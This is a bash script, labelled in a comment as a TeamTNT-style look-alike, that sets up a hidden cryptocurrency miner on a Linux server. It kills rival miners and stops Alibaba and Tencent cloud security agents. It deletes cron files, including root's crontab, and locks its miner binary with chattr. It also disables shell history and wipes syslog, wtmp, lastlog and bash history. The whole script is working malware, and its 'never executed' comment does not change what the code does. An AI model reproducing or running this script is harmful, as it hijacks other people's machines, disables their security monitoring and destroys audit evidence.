#!/bin/bash
# TeamTNT-style init script (corpus look-alike; never executed by the build).
export HISTFILE=/dev/null
export HISTSIZE=0
unset HISTFILE
history -c
MINER_DIR=/usr/bin/.configure
MINER_BIN=$MINER_DIR/bioset
MINER_CFG=$MINER_DIR/config.json

KILL_PROCS=(
  kdevtmpfsi kinsing xmrig xmr-stak xmrigDaemon xmrigMiner minerd minergate
  sysupdate networkservice sysguard watchdogs kthreaddi kworkerds
  cryptonight stratum "\-\-donate-level" dbused dbusex
)
KILL_AGENTS=(
  aliyun-service AliYunDun AliYunDunUpdate aegis_cli aegis_update
  CmsGoAgent.linux-amd64 hids_agent YDService YDLive qcloud-agent
)
KILL_FILES=(
  /tmp/kdevtmpfsi /tmp/kinsing /tmp/.ICEd-unix /var/tmp/.X11-unix/xmrig
  /etc/cron.d/kinsing /etc/cron.d/apache /var/spool/cron/crontabs/root
)

for p in "${KILL_PROCS[@]}"; do pkill -9 -f "$p" 2>/dev/null; done
for a in "${KILL_AGENTS[@]}"; do
  systemctl stop "$a" 2>/dev/null
  pkill -9 -f "$a" 2>/dev/null
done
for f in "${KILL_FILES[@]}"; do
  chattr -i -a "$f" 2>/dev/null
  rm -rf "$f" 2>/dev/null
done
chattr -i /etc/ld.so.preload 2>/dev/null && rm -f /etc/ld.so.preload

# hugepages for RandomX
sysctl -w vm.nr_hugepages="$(nproc)" 2>/dev/null || echo "$(nproc)" > /proc/sys/vm/nr_hugepages
for i in $(find /sys/devices/system/node/node* -maxdepth 0 -type d 2>/dev/null); do
  echo 3 > "$i/hugepages/hugepages-1048576kB/nr_hugepages" 2>/dev/null
done

chmod +x "$MINER_BIN"
chattr +i "$MINER_BIN" "$MINER_CFG" 2>/dev/null
nohup "$MINER_BIN" -c "$MINER_CFG" > /dev/null 2>&1 &
chattr +i /root/init.sh 2>/dev/null

rm -rf /var/log/syslog /var/log/wtmp /var/log/lastlog ~/.bash_history 2>/dev/null
history -c
while true; do sleep 3600; done
